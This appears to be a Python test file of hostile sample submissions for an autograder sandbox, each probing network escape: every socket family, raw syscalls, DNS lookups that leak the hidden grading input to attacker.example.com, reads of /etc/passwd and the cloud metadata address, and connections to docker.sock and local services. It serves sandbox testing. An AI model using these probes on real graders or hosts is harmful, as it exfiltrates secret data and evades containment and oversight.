"""The network: every family of sockets, names, the clients of the library and of torch, services on this machine."""

from __future__ import annotations

from tests.submissions.ps1_gradients.recipes.hostile.reaching import reaching

GOLDENS = (
    reaching(
        "every_family_of_sockets",
        "Each address family with each type: internet, unix, netlink, packets, vsock, Bluetooth, CAN, crypto.",
        """
        import socket

        KINDS = (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_RDM, socket.SOCK_SEQPACKET, 10)


        def open_all():
            for family in range(48):
                for kind in KINDS:
                    for flags in (0, socket.SOCK_CLOEXEC | socket.SOCK_NONBLOCK):
                        if tried(socket.socket, family, kind | flags):
                            reached.append((family, kind))
                if tried(socket.socketpair, family):
                    reached.append(family)


        open_all()
        """,
        again="reached or open_all()",
    ),
    reaching(
        "sockets_through_libc",
        "The same calls without Python: by libc, by number, and as an operation of io_uring.",
        """
        import ctypes
        import os
        import platform

        libc = ctypes.CDLL(None, use_errno=True)
        COLUMN = ["x86_64", "aarch64"].index(platform.machine())
        SOCKET, SOCKETPAIR, CONNECT, SENDTO, SENDMSG, SENDMMSG, BIND, LISTEN, ACCEPT, RECVMSG = (
            numbers[COLUMN] for numbers in ((41, 198), (53, 199), (42, 203), (44, 206), (46, 211), (307, 269), (49,
            200),
                                            (50, 201), (43, 202), (47, 212))
        )  # fmt: skip
        ADDRESS = b"\\x02\\x00\\x00\\x35\\x01\\x01\\x01\\x01" + bytes(8)  # 1.1.1.1:53


        def call():
            pair = (ctypes.c_int * 2)()
            for family in (1, 2, 10, 16, 17, 38, 40, 44):
                for kind in (1, 2, 3):
                    results = (libc.socket(family, kind, 0), libc.syscall(SOCKET, family, kind, 0),
                               libc.socketpair(family, kind, 0, pair), libc.syscall(SOCKETPAIR, family, kind, 0,
                               pair))
                    reached.extend(result for result in results if result >= 0)
            for descriptor in range(3, 12):  # the pipes are no sockets, but a forgotten one would be
                for number in (CONNECT, BIND):
                    if libc.syscall(number, descriptor, ADDRESS, 16) >= 0:
                        reached.append(number)
                if libc.syscall(SENDTO, descriptor, b"data", 4, 0x40, ADDRESS, 16) >= 0:
                    reached.append("sent")
                for number in (SENDMSG, SENDMMSG, RECVMSG, LISTEN, ACCEPT):
                    if libc.syscall(number, descriptor, 0, 0, 0) >= 0:
                        reached.append(number)
            if libc.syscall(425, 8, bytes(256)) >= 0:
                reached.append("io_uring")


        call()
        """,
        again="reached or call()",
    ),
    reaching(
        "names_that_tell_the_input",
        "The hidden input as part of a name that is looked up: whoever serves that domain would read it.",
        """
        import ctypes
        import ctypes.util
        import socket

        DOMAIN = "attacker.example.com"
        libc = ctypes.CDLL(None)
        libc.gethostbyname.restype = ctypes.c_void_p


        def look_up(text):
            name = f"{text}.{DOMAIN}"
            for attempt in (socket.gethostbyname, socket.gethostbyname_ex, lambda name: socket.getaddrinfo(name, 443),
                            lambda name: socket.getaddrinfo(name, None, socket.AF_INET6)):
                if tried(attempt, name):
                    reached.append(attempt)
            if libc.gethostbyname(name.encode()):
                reached.append("libc")
            if tried(socket.gethostbyaddr, "1.1.1.1"):
                reached.append("backwards")
            for path in ("/etc/resolv.conf", "/etc/hosts", "/etc/nsswitch.conf",
            "/run/systemd/resolve/stub-resolv.conf"):
                if tried(lambda: open(path).read()):
                    reached.append(path)


        look_up("hello")
        """,
        again="reached or A.numel() > 4 or look_up('-'.join(str(int(1e3 * entry)) for entry in A.flatten()))",
    ),
    reaching(
        "clients_of_the_library",
        "urllib, http, ftp, mail, telnet, asyncio and their servers, with a proxy from the environment.",
        """
        import asyncio
        import ftplib
        import http.client
        import http.server
        import os
        import poplib
        import smtplib
        import socketserver
        import ssl
        import urllib.request
        import xmlrpc.client

        os.environ.update(http_proxy="http://127.0.0.1:3128", https_proxy="http://127.0.0.1:3128")
        PLACES = ("http://example.com/", "https://1.1.1.1/", "http://127.0.0.1:8888/api", "ftp://ftp.example.com/x",
                  "file:///etc/passwd", "http://169.254.169.254/latest/meta-data/")  # fmt: skip


        async def connect():
            return await asyncio.open_connection("127.0.0.1", 8787)


        def call_out():
            attempts = [
                *(lambda place=place: urllib.request.urlopen(place, timeout=1).read() for place in PLACES),
                lambda: http.client.HTTPConnection("127.0.0.1", 80, timeout=1).connect() or 1,
                lambda: ftplib.FTP("127.0.0.1", timeout=1),
                lambda: smtplib.SMTP("127.0.0.1", 25, timeout=1),
                lambda: poplib.POP3("127.0.0.1", 110, timeout=1),
                lambda: xmlrpc.client.ServerProxy("http://127.0.0.1:9001").system.listMethods(),
                lambda: ssl.get_server_certificate(("1.1.1.1", 443), timeout=1),
                lambda: asyncio.run(connect()),
                lambda: http.server.HTTPServer(("127.0.0.1", 0), None),
                lambda: socketserver.UnixStreamServer("socket", None),
            ]
            reached.extend(attempt for attempt in attempts if tried(attempt))


        call_out()
        """,
        again="reached or tried(asyncio.run, connect()) and reached.append('asyncio')",
    ),
    reaching(
        "services_on_this_machine",
        "What may listen here: Docker, SSH, the resolver, Jupyter, Dask, a database, the agent of a desktop.",
        """
        import os
        import socket

        PORTS = (22, 25, 53, 80, 111, 443, 631, 2375, 2376, 3306, 5432, 5555, 6006, 6379, 8000, 8080, 8786, 8787,
        8888, 9090)
        PATHS = ("/var/run/docker.sock", "/run/systemd/notify", "/run/dbus/system_bus_socket", "/run/user/0/bus",
                 "/tmp/.X11-unix/X0", "/run/containerd/containerd.sock", "/run/podman/podman.sock", "/dev/log",
                 "\\0/tmp/.X11-unix/X0", "\\0autograder", "\\0dbus", "/run/nscd/socket", "/run/snapd.socket")


        def connect_to_all():
            for port in PORTS:
                for host in ("127.0.0.1", "::1", "0.0.0.0"):
                    if tried(socket.create_connection, (host, port), 0.2):
                        reached.append(port)
            for path in PATHS:
                if tried(lambda: socket.socket(socket.AF_UNIX).connect(path) or 1):
                    reached.append(path)
            for number in range(3, 64):
                if tried(lambda: socket.socket(fileno=number)):
                    reached.append(number)


        connect_to_all()
        """,
    ),
    reaching(
        "torch_talks_to_others",
        "A process group, a store, remote calls and downloads, as torch offers them.",
        """
        import datetime
        import os

        import torch.distributed

        os.environ.update(MASTER_ADDR="127.0.0.1", MASTER_PORT="29500", RANK="0", WORLD_SIZE="1")
        MOMENT = datetime.timedelta(milliseconds=50)


        def meet():
            distributed = torch.distributed
            for attempt in (
                lambda: distributed.TCPStore("127.0.0.1", 29500, 1, True, MOMENT, False) is not None,
                lambda: distributed.TCPStore("127.0.0.1", 22, 1, False, MOMENT, False) is not None,
                lambda: distributed.init_process_group("gloo", timeout=MOMENT) or 1,
                lambda: torch.hub.load_state_dict_from_url("http://example.com/model.pt"),
                lambda: torch.hub.load("pytorch/vision", "resnet18", trust_repo=True),
                lambda: torch.hub.download_url_to_file("http://example.com/", "here") or 1,
            ):
                if tried(attempt):
                    reached.append(attempt)


        meet()
        """,
    ),
)
